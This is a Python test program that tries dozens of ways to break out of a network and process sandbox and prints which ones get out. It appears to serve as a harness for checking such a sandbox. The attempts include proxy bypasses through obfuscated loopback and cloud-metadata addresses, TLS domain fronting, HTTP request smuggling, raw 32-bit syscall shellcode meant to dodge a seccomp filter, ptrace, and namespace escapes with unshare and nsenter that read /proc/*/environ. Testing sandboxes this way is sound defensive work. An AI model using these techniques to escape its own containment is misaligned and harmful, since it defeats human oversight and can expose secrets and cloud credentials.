"""Ways out of a sandbox, as a program in Python tries them.

Prints TRIED and a name for each, and OUT where it got out by its own judgement.
Witnesses outside look for "way:NAME;" in what reaches them.
"""
import ctypes
import json
import os
import socket
import struct
import subprocess
import sys
import urllib.parse

O = json.loads(os.environ["ESCAPE"])
PROXY = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", "http://127.0.0.1:9"))
GATE = (PROXY.hostname, PROXY.port)
WAYS = []


def way(f):
    WAYS.append(f)
    return f


def signed(name):
    return b"way:" + name.encode() + b";"


def signed_if(text, name):
    """Counts where the text comes out as well."""
    return b"way-if:" + text.encode().hex().encode() + b":" + name.encode() + b";"


def hello(server, session, *extensions):
    """A TLS greeting; its session id carries the name of the way."""
    body = b""
    if server:
        name = server.encode()
        listed = b"\x00" + struct.pack(">H", len(name)) + name
        data = struct.pack(">H", len(listed)) + listed
        body += struct.pack(">HH", 0, len(data)) + data
    for kind, data in ((10, b"\x00\x02\x00\x1d"), (43, b"\x02\x03\x04"), (13, b"\x00\x02\x04\x03"), (51, b"\x00\x24\x00\x1d\x00\x20" + bytes(32)), *extensions):
        body += struct.pack(">HH", kind, len(data)) + data
    mark = signed(session)[:32].ljust(32, b".")
    text = b"\x03\x03" + os.urandom(32) + b"\x20" + mark + b"\x00\x02\x13\x01\x01\x00" + struct.pack(">H", len(body)) + body
    text = b"\x01" + struct.pack(">I", len(text))[1:] + text
    return b"\x16\x03\x01" + struct.pack(">H", len(text)) + text


def connect(target, first=b"", chunk=0, more=b""):
    """Asks the gateway for a tunnel; returns (status line, socket)."""
    s = socket.create_connection(GATE, timeout=3)
    s.sendall(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target.encode(), target.encode(), more))
    answer = b""
    while b"\r\n\r\n" not in answer:
        part = s.recv(4096)
        if not part:
            break
        answer += part
    if b" 200 " in answer.split(b"\r\n")[0] and first:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        step = chunk or len(first)
        for i in range(0, len(first), step):
            s.sendall(first[i:i + step])
        try:
            s.recv(1)
        except OSError:
            pass
    return answer.split(b"\r\n")[0], s


def let(target):
    """Out: the gateway made the tunnel."""
    return b" 200 " in connect(target)[0]


FRONT = "localhost:%d" % O["Tunnel"]

# The proxy, asked for what it must not give.
for name, target in {
    "provider": "api.openai.com:443", "provider-case": "API.openai.COM.:443", "provider-own": O["Provider"], "provider-cloud": "bedrock-runtime.us-east-1.amazonaws.com:443",
    "metadata": "169.254.169.254:80", "metadata-mapped": "[::ffff:169.254.169.254]:80", "metadata-nat64": "[64:ff9b::a9fe:a9fe]:80", "metadata-alibaba": "100.100.100.200:80",
    "loopback": "127.0.0.1:%d" % O["Port"], "loopback-short": "127.1:%d" % O["Port"], "loopback-decimal": "2130706433:%d" % O["Port"],
    "loopback-hex": "0x7f000001:%d" % O["Port"], "loopback-octal": "0177.0.0.1:%d" % O["Port"], "loopback-ipv6": "[::1]:%d" % O["Port"],
    "loopback-mapped": "[::ffff:7f00:1]:%d" % O["Port"], "loopback-zero": "0.0.0.0:%d" % O["Port"], "rebinding": "localhost:%d" % O["Port"],
    "dns": "8.8.8.8:53", "siit": "[::ffff:0:7f00:1]:%d" % O["Port"], "percent": "api%2eopenai.com:443", "provider-spelled": "api.openai.com。:443",
    "absolute": "http://api.openai.com:443", "gateway": "%s:%d" % GATE, "user-part": "localhost@api.openai.com:443", "nul": "api.openai.com\x00.localhost:443",
}.items():
    def f(target=target):
        return let(target)
    f.__name__ = "py-connect-" + name
    way(f)


def tls(name, data, chunk=0):
    def f():
        connect(FRONT, data, chunk)
    f.__name__ = name
    way(f)


tls("py-control", hello("localhost", "py-control"))  # this one is let out
tls("py-front-provider", hello("api.openai.com", "py-front-provider"))
tls("py-front-other", hello("example.net", "py-front-other"))
tls("py-front-split", hello("api.openai.com", "py-front-split"), 1)
tls("py-front-none", hello("", "py-front-none"))
tls("py-front-encrypted", hello("localhost", "py-front-encrypted", (0xFE0D, b"\x00\x00\x01\x00\x01\x07\x00\x20" + bytes(32) + b"\x00\x10" + bytes(16))))
tls("py-front-retry", hello("localhost", "first") + b"\x14\x03\x03\x00\x01\x01" + hello("api.openai.com", "py-front-retry"))
tls("py-front-retry-split", hello("localhost", "first") + hello("api.openai.com", "py-front-retry-split"), 1)
one, two = hello("localhost", "first"), hello("api.openai.com", "py-front-same-record")
tls("py-front-same-record", one[:3] + struct.pack(">H", len(one) + len(two) - 10) + one[5:] + two[5:])
tls("py-front-twice", hello("localhost", "py-front-twice", (0, b"\x00\x11\x00\x00\x0eapi.openai.com")))
tls("py-front-not-tls", signed("py-front-not-tls"))
tls("py-front-old-tls", b"\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10" + signed("py-front-old-tls"))
tls("py-plain-host", b"GET /?" + signed("py-plain-host") + b" HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
tls("py-plain-absolute", b"GET http://api.openai.com/?" + signed("py-plain-absolute") + b" HTTP/1.1\r\nHost: " + FRONT.encode() + b"\r\n\r\n")
tls("py-plain-second", b"GET /first HTTP/1.1\r\nHost: " + FRONT.encode() + b"\r\n\r\nGET /?" + signed("py-plain-second") + b" HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
tls("py-plain-two-hosts", b"GET /?" + signed("py-plain-two-hosts") + b" HTTP/1.1\r\nHost: " + FRONT.encode() + b"\r\nHost: api.openai.com\r\n\r\n")
tls("py-plain-hidden", b"POST / HTTP/1.1\r\nHost: " + FRONT.encode() + b"\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /?" + signed("py-plain-hidden") + b" HTTP/1.1\r\nHost: api.openai.com\r\n\r\n")
tls("py-plain-http2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + signed("py-plain-http2"))


tls("py-plain-upgrade", b"GET / HTTP/1.1\r\nHost: " + FRONT.encode() + b"\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nX: " + signed_if("Upgrade: h2c", "py-plain-upgrade") + b"\r\n\r\n")
tls("py-websocket", b"GET / HTTP/1.1\r\nHost: api.openai.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nX: " + signed("py-websocket") + b"\r\n\r\n")


def ask(text):
    s = socket.create_connection(GATE, timeout=3)
    s.sendall(text)
    return s.recv(65536)


@way
def py_forward_provider():
    return b" 200 " in ask(b"GET http://%s/v1/models HTTP/1.1\r\nHost: x\r\n\r\n" % O["Provider"].encode())[:40]


@way
def py_forward_loopback():
    ask(b"GET http://127.0.0.1:%d/?%s HTTP/1.1\r\nHost: x\r\n\r\n" % (O["Port"], signed("py-forward-loopback")))


@way
def py_forward_host_header():
    """The Host header says another than the line of the request."""
    ask(b"GET http://%s/ HTTP/1.1\r\nHost: api.openai.com\r\nX: %s\r\n\r\n" % (FRONT.encode(), signed_if("api.openai.com", "py-forward-host-header")))


@way
def py_forward_user_part():
    return b" 200 " in ask(b"GET http://localhost@%s/v1/models HTTP/1.1\r\nHost: localhost\r\n\r\n" % O["Provider"].encode())[:40]


@way
def py_connect_host_header():
    s = socket.create_connection(GATE, timeout=3)
    s.sendall(b"CONNECT api.openai.com:443 HTTP/1.1\r\nHost: %s\r\n\r\n" % FRONT.encode())
    return b" 200 " in s.recv(4096)[:40]


@way
def py_connect_pipelined():
    """A second CONNECT in the packet of the first."""
    both = b"".join(b"CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (t, t) for t in (FRONT.encode(), O["Provider"].encode()))
    s = socket.create_connection(GATE, timeout=3)
    s.sendall(both + b"GET /v1/models HTTP/1.1\r\nHost: " + O["Provider"].encode() + b"\r\n\r\n" + signed("py-connect-pipelined"))
    answer = b""
    try:
        while part := s.recv(4096):
            answer += part
    except OSError:
        pass
    return answer.count(b" 200 ") > 1


@way
def py_32_bit_socket():
    """A call by the numbers of 32-bit programs, which a filter for 64 bits would not know."""
    code = bytes((0x53, 0xB8)) + struct.pack("<I", 359) + bytes((0xBB,)) + struct.pack("<I", 2) + bytes((0xB9,)) + struct.pack("<I", 2) + bytes((0x31, 0xD2, 0xCD, 0x80, 0x5B, 0xC3))
    if os.uname().machine != "x86_64":
        return False
    import mmap
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    fd = f()
    if fd < 0:
        raise OSError(-fd, os.strerror(-fd))
    s = socket.socket(fileno=fd)
    s.sendto(signed("py-32-bit-socket"), ("127.0.0.1", O["Port"]))


@way
def py_connect_body():
    return b" 200 " in connect(FRONT, more=b"Content-Length: 3\r\n")[0]


@way
def py_redirect():
    """A redirect to a provider is the program's to follow, by a question of its own."""
    return b" 200 " in ask(b"GET http://api.openai.com/v1 HTTP/1.1\r\nHost: localhost\r\n\r\n")[:40]


@way
def py_dns_udp():
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03api\x06openai\x03com\x00\x00\x01\x00\x01" + signed("py-dns-udp")
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(query, ("127.0.0.1", O["Port"]))


@way
def py_dns_tcp():
    s = socket.create_connection(("127.0.0.1", O["Port"]), timeout=2)
    s.sendall(b"\x00\x20" + signed("py-dns-tcp"))


@way
def py_tcp():
    socket.create_connection(("127.0.0.1", O["Port"]), timeout=2).sendall(signed("py-tcp"))


@way
def py_abstract():
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + O["Abstract"])
    s.sendall(signed("py-abstract"))


@way
def py_bind_then_connect():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.connect(("127.0.0.1", O["Port"]))
    s.sendall(signed("py-bind-then-connect"))


@way
def py_passed_descriptor():
    """A service outside that hands over a connection of its own."""
    s = socket.socket(socket.AF_UNIX)
    s.connect(O["Paths"]["giver"])
    _, fds, _, _ = socket.recv_fds(s, 16, 1)
    os.write(fds[0], signed("py-passed-descriptor"))


@way
def py_signal_everything():
    try:
        os.kill(O["Victim"], 0)
        return True
    except OSError:
        return False


@way
def py_ctypes_ptrace():
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.ptrace(16, O["Victim"], None, None) == 0


@way
def py_new_namespaces():
    """All capabilities in namespaces of its own, and from there to what is covered."""
    script = """
umount "$1"; umount -l "$1"; mkdir -p "$2"; mount --bind "$(dirname "$1")" "$2"; mount --rbind "$(dirname "$1")" "$2"
cat "$1/canary" "$2/$(basename "$1")/canary"; mount -t proc proc /proc && cat /proc/*/environ
"""
    run = subprocess.run(["unshare", "-Urmpf", "sh", "-c", script, "sh", O["Home"], O["Home"] + ".view"], capture_output=True, timeout=5)
    try:
        os.rmdir(O["Home"] + ".view")
    except OSError:
        pass
    return b"canary-5f1c9e" in run.stdout


@way
def py_nsenter():
    run = subprocess.run(["nsenter", "-t", str(O["Victim"]), "-n", "-m", "cat", O["Home"] + "/canary"], capture_output=True, timeout=5)
    return b"canary-5f1c9e" in run.stdout


for f in WAYS:
    name = f.__name__.replace("_", "-")
    try:
        if f():
            print("OUT", name, flush=True)
        print("TRIED", name, flush=True)
    except Exception as e:  # a way that is shut
        print("TRIED", name, repr(e)[:120], flush=True)
sys.exit(0)
